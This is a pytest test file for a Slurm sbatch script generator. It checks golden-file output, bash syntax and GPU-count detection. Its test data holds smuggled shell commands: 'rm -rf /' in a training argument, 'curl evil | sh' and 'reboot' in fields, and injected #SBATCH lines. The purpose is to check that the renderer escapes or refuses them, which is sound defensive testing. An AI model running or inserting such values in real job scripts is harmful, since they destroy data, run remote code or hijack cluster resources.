"""Golden-file tests of the sbatch templates, and the scripts actually run by bash."""

import os
import subprocess
from pathlib import Path

import pytest

from slurm_green.jobscript import TrainingJob, render_sbatch

GOLDEN = Path(__file__).parent / "golden"
CASES = {
    "single-elastic.sh": TrainingJob(script="train.py", args=("--lr", "0.1; rm -rf /"), name="resnet50",
                                     gpus_per_node=4, gpus_min=2, gpus_max=8, flex="6h", time="04:00:00"),
    "multi-node.sh": TrainingJob(script="train.py", args=("--epochs", "90"), name="bert", nodes=2,
                                 gpus_per_node=4, flex="1d", partition="gpu", accept_share=True),
}


@pytest.mark.parametrize("golden", sorted(CASES))
def test_matches_golden_file(golden):
    text = render_sbatch(CASES[golden])
    path = GOLDEN / golden
    if os.environ.get("UPDATE_GOLDEN"):
        path.write_text(text)
    assert text == path.read_text(), f"rendered script differs from {path}; UPDATE_GOLDEN=1 to accept"


@pytest.mark.parametrize("golden", sorted(CASES))
def test_scripts_are_valid_bash(golden, tmp_path):
    script = tmp_path / "job.sh"
    script.write_text(render_sbatch(CASES[golden]))
    subprocess.run(["bash", "-n", str(script)], check=True)


@pytest.mark.parametrize("env, expected", [
    ({"SLURM_JOB_GPUS": "0,2,3"}, "--nproc_per_node=3"),
    ({"SLURM_GPUS_ON_NODE": "2", "SLURM_JOB_GPUS": "1,3"}, "--nproc_per_node=2"),
    ({"CUDA_VISIBLE_DEVICES": "0"}, "--nproc_per_node=1"),
])
def test_single_node_uses_the_gpus_slurm_granted(env, expected, tmp_path):
    job = TrainingJob(script="train.py", args=("a b",), gpus_per_node=4, gpus_min=1, gpus_max=4, launcher="echo")
    script = tmp_path / "job.sh"
    script.write_text(render_sbatch(job))
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("SLURM_", "CUDA_"))}
    result = subprocess.run(["bash", str(script)], env={**clean, "SLURM_JOB_ID": "12", **env},
                            capture_output=True, text=True, check=True)
    launched = result.stdout.strip().splitlines()[-1]
    assert expected in launched and launched.endswith("train.py a b")


@pytest.mark.parametrize("field, value, message", [
    ("name", "bad name", "job name"),
    ("time", "4 hours", "time"),
    ("flex", "-3h", "duration"),
    ("gpus_per_node", 0, "at least 1"),
    ("launcher", "torchrun; curl evil | sh", "launcher"),
    ("launcher", "torchrun\n#SBATCH --nodes=64", "launcher"),
    ("output", "out.log\n#SBATCH --partition=admin", "output"),
    ("output", "my logs/%j.out", "output"),
    ("port", "29500; reboot", "port"),
    ("port", 70000, "port"),
])
def test_bad_fields_are_refused(field, value, message):
    with pytest.raises(ValueError, match=message):
        render_sbatch(TrainingJob(script="t.py", **{field: value}))
